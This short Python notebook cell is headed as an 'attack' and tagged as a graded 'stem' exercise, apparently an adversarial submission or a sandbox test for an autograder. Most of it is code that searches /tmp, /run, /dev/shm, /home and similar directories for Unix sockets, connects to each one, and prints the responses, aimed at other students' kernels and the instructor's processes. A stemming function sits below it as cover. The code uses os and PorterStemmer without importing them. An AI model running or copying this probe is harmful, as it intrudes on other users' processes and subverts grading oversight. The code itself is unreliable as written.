# ---
# attack: All sockets that are files are called, other kernels' and the instructor's.
# ---

# %% grade_id="stem"
import glob
import socket
import stat

places = ("/tmp", os.environ.get("TMPDIR", "/tmp"), "/run", "/var/run", "/dev", "/dev/shm", "/home")
for place in places:
    for pattern in ("/*", "/*/*", "/../*", "/../../*"):
        for path in glob.glob(place + pattern):
            try:
                if not stat.S_ISSOCK(os.stat(path).st_mode):
                    continue
                with socket.socket(socket.AF_UNIX) as caller:
                    caller.settimeout(0.2)
                    caller.connect(path)
                    print(path, caller.recv(1000))
            except OSError as error:
                print(path, error)


def stem(tokens):
    stemmer = PorterStemmer()
    return [stemmer.stem(token) for token in tokens]
